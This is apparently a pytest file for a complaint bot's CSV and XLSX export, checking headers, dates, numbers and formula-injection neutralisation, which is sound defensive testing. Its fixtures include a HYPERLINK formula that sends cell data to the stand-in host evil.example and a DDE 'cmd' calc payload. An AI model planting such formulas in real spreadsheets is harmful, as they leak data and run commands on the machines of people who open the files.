"""bot.views.export: rows → CSV and XLSX bytes, read back the way a spreadsheet would (the
csv module, openpyxl): BOM, delimiter, header in the bot's language, real dates and numbers,
and hostile client texts that never become formulas."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from bot.views.export import (
    COLUMNS,
    XLSX_CELL_LIMIT,
    ExportBuilder,
    ExportLabels,
    neutral,
    to_csv,
    to_xlsx,
)
from bot.views.texts import Texts
from storage.export import ExportRow

MOSCOW = ZoneInfo("Europe/Moscow")
T0 = datetime(2026, 12, 1, 9, 0, tzinfo=UTC)  # 12:00 in Moscow
NOW = T0 + timedelta(days=5)
RU = ExportLabels.from_texts(Texts("ru"))
EN = ExportLabels.from_texts(Texts("en"))
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Нажмите")'


def row(**changes: object) -> ExportRow:
    base = ExportRow(
        id=7,
        source="telegram",
        source_title=None,
        link=None,
        author_name="Анна Смирнова",
        text="Душ в номере не работает",
        status="closed",
        created_at=T0,
        first_response_at=T0 + timedelta(minutes=17, seconds=40),
        owner_id=201,
        owner_name="Мария",
        due_at=T0 + timedelta(days=1),
        due_history=(T0 + timedelta(hours=5), T0 + timedelta(days=1)),
        root_cause="informing",
        root_cause_note=None,
        resolution="Починили",
        closed_at=T0 + timedelta(hours=20),
        followup_asked=True,
        followup_answer="yes",
        rating=5,
        reopened=1,
    )
    return replace(base, **changes)


def read_csv(data: bytes, delimiter: str = ";") -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "no UTF-8 BOM: Excel would garble the Cyrillic"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def column(name: str) -> int:
    return [key for key, _ in COLUMNS].index(name)


def read_xlsx(data: bytes) -> openpyxl.worksheet.worksheet.Worksheet:
    return openpyxl.load_workbook(io.BytesIO(data)).active


def test_csv_has_a_bom_semicolons_the_russian_header_and_the_values() -> None:
    data = to_csv([row()], RU, MOSCOW, NOW)
    assert data.startswith(b"\xef\xbb\xbf\xe2\x84\x96;")  # BOM, then "№;"
    header, line = read_csv(data)
    assert header[:6] == ["№", "Источник", "Метка источника", "Ссылка", "Клиент", "Текст обращения"]
    assert len(header) == len(line) == len(COLUMNS)
    values = dict(zip(header, line, strict=True))
    assert values["№"] == "7"
    assert values["Источник"] == "Личные сообщения"
    assert values["Клиент"] == "Анна Смирнова"
    assert values["Текст обращения"] == "Душ в номере не работает"
    assert values["Статус"] == "Решено"
    assert values["Создано"] == "01.12.2026 12:00"  # Moscow time
    assert values["Первый ответ"] == "01.12.2026 12:17"
    assert values["Минут до первого ответа"] == "17"
    assert values["Ответственный"] == "Мария"
    assert values["Точка контроля"] == "02.12.2026 12:00"
    assert values["Все точки контроля"] == "01.12.2026 17:00 → 02.12.2026 12:00"
    assert values["Срок"] == "соблюдён"
    assert values["Причина"] == "Сломано информирование"
    assert values["Итог"] == "Починили"
    assert values["Закрыто"] == "02.12.2026 08:00"
    assert values["Ответ клиента после закрытия"] == "всё в порядке"
    assert values["Оценка"] == "5"
    assert values["Переоткрыто, раз"] == "1"


def test_english_csv_uses_commas_and_iso_dates() -> None:
    header, line = read_csv(to_csv([row()], EN, MOSCOW, NOW), delimiter=",")
    values = dict(zip(header, line, strict=True))
    assert header[0] == "No."
    assert values["Created"] == "2026-12-01 12:00"
    assert values["Root cause"] == "Broken informing"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_starts_are_neutralised_everywhere(start: str) -> None:
    hostile = row(
        author_name=start + "cmd|' /C calc'!A0",
        text=start + "SUM(1+1)",
        resolution=start + "1",
        source="tg:-100500",
        source_title=start + "Группа",
        link=start + "link",
    )
    _, line = read_csv(to_csv([hostile], RU, MOSCOW, NOW))
    sheet = read_xlsx(to_xlsx([hostile], RU, MOSCOW, NOW))
    for name in ("client", "text", "resolution", "tag", "link"):
        assert line[column(name)].startswith("'" + start), (name, line[column(name)])
        cell = sheet.cell(row=2, column=column(name) + 1)
        assert cell.data_type == "s", (name, cell.data_type)
        # (XML hands a carriage return back as a line feed: the "'" before it is what counts)
        assert str(cell.value).startswith("'"), (name, cell.value)


def test_a_hyperlink_formula_stays_text() -> None:
    hostile = row(text=HOSTILE)
    _, line = read_csv(to_csv([hostile], RU, MOSCOW, NOW))
    assert line[column("text")] == "'" + HOSTILE
    cell = read_xlsx(to_xlsx([hostile], RU, MOSCOW, NOW)).cell(row=2, column=column("text") + 1)
    assert cell.data_type == "s" and cell.value == "'" + HOSTILE


def test_harmless_texts_are_left_alone() -> None:
    assert neutral("Душ не работает") == "Душ не работает"
    assert neutral("a=b") == "a=b"
    assert neutral("bell\x07 and nul\x00") == "bell and nul"
    assert neutral("two\nlines\ttab") == "two\nlines\ttab"


def test_xlsx_header_bold_frozen_filtered_and_sized() -> None:
    sheet = read_xlsx(to_xlsx([row(), row(id=8)], RU, MOSCOW, NOW))
    header = [cell.value for cell in sheet[1]]
    assert header == list(RU.columns)
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:T{3}"
    assert sheet.title == "Обращения"
    assert sheet.column_dimensions["A"].width == COLUMNS[0][1]
    assert sheet.column_dimensions["F"].width == 60  # the complaint's text is the wide one


def test_xlsx_dates_are_datetimes_in_the_company_zone_and_numbers_are_numbers() -> None:
    sheet = read_xlsx(to_xlsx([row()], RU, MOSCOW, NOW))
    cells = [cell for cell in sheet[2]]
    created = cells[column("created")]
    assert created.value == datetime(2026, 12, 1, 12, 0)
    assert created.is_date and created.number_format == "dd.mm.yyyy hh:mm"
    assert cells[column("closed")].value == datetime(2026, 12, 2, 8, 0)
    assert cells[column("due")].value == datetime(2026, 12, 2, 12, 0)
    for name, expected in (("id", 7), ("first_response_minutes", 17), ("rating", 5)):
        assert cells[column(name)].value == expected and cells[column(name)].data_type == "n"
    assert cells[column("reopened")].value == 1
    assert cells[column("client")].value == "Анна Смирнова"


def test_xlsx_takes_control_characters_and_overlong_texts() -> None:
    sheet = read_xlsx(to_xlsx([row(text="a\x00b\x1b" + "я" * 40_000)], RU, MOSCOW, NOW))
    value = sheet.cell(row=2, column=column("text") + 1).value
    assert value.startswith("abя") and len(value) == XLSX_CELL_LIMIT


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({"closed_at": T0 + timedelta(days=1)}, "соблюдён"),  # on the dot
        ({"closed_at": T0 + timedelta(days=1, minutes=1)}, "пропущен"),
        ({"closed_at": None, "status": "in_progress"}, "пропущен"),  # open, NOW is past due
        ({"closed_at": None, "due_at": NOW + timedelta(hours=1)}, ""),  # still ahead
        ({"due_at": None, "due_history": ()}, ""),
    ],
)
def test_kept_or_missed(changes: dict[str, object], expected: str) -> None:
    _, line = read_csv(to_csv([row(**changes)], RU, MOSCOW, NOW))
    assert line[column("promise")] == expected


@pytest.mark.parametrize(
    ("asked", "answer", "rating", "shown"),
    [
        (True, "no", None, ("не всё в порядке", "")),
        (True, None, None, ("нет ответа", "")),
        (False, None, None, ("", "")),
        (True, "yes", 2, ("всё в порядке", "2")),
    ],
)
def test_follow_up_answers(
    asked: bool, answer: str | None, rating: int | None, shown: tuple
) -> None:
    changed = row(followup_asked=asked, followup_answer=answer, rating=rating)
    _, line = read_csv(to_csv([changed], RU, MOSCOW, NOW))
    assert (line[column("followup")], line[column("rating")]) == shown


@pytest.mark.parametrize(
    ("source", "title", "link", "kind", "tag", "shown_link"),
    [
        ("telegram", None, None, "Личные сообщения", "", ""),
        ("tg:-100500", "Жильцы дома 5", None, "Группа", "Жильцы дома 5", ""),
        ("t.me/hotel_news", None, "https://t.me/hotel_news/12", "Канал", "t.me/hotel_news", None),
        ("https://reviews.example/feed", None, None, "Лента", "reviews.example", None),
        ("https://reviews.example/feed", "Отзывы", "https://r.example/1", "Лента", "Отзывы", None),
        ("email", None, None, "email", "email", ""),  # a kind the export does not know yet
        ("business", None, None, "Личные сообщения директора", "", ""),
        ("telegram", "Зал №2", None, "Личные сообщения", "Зал №2", ""),  # came by a poster
    ],
)
def test_source_kind_tag_and_link(
    source: str, title: str | None, link: str | None, kind: str, tag: str, shown_link: str | None
) -> None:
    _, line = read_csv(to_csv([row(source=source, source_title=title, link=link)], RU, MOSCOW, NOW))
    assert line[column("source")] == kind
    assert line[column("tag")] == tag
    expected_link = shown_link if shown_link is not None else (link or source)
    assert line[column("link")] == expected_link


def test_an_unknown_cause_and_no_owner_show_plainly() -> None:
    _, line = read_csv(to_csv([row(root_cause="weather", owner_name=None)], RU, MOSCOW, NOW))
    assert line[column("cause")] == "weather"
    assert line[column("owner")] == ""


def test_other_cause_carries_its_word() -> None:
    changed = row(root_cause="other", root_cause_note="=парковка & шум")
    _, line = read_csv(to_csv([changed], RU, MOSCOW, NOW))
    assert line[column("cause")] == "Другое: =парковка & шум"  # no HTML escaping in a file


def test_no_first_response_and_no_history_but_a_due() -> None:
    changed = row(first_response_at=None, due_history=())
    _, line = read_csv(to_csv([changed], RU, MOSCOW, NOW))
    assert line[column("first_response")] == line[column("first_response_minutes")] == ""
    assert line[column("due_history")] == "02.12.2026 12:00"


def test_the_builder_fed_in_pages_makes_the_same_files() -> None:
    made = [row(id=n, text=f"жалоба {n}") for n in range(1, 8)]
    builder = ExportBuilder(RU, MOSCOW, NOW)
    for start in range(0, len(made), 3):
        builder.add(made[start : start + 3])
    csv_bytes, xlsx_bytes = builder.finish()
    assert builder.count == 7
    assert csv_bytes == to_csv(made, RU, MOSCOW, NOW)
    sheet = read_xlsx(xlsx_bytes)
    assert [r[0].value for r in sheet.iter_rows(min_row=2)] == list(range(1, 8))
    assert [r[column("text")].value for r in sheet.iter_rows(min_row=2)][-1] == "жалоба 7"
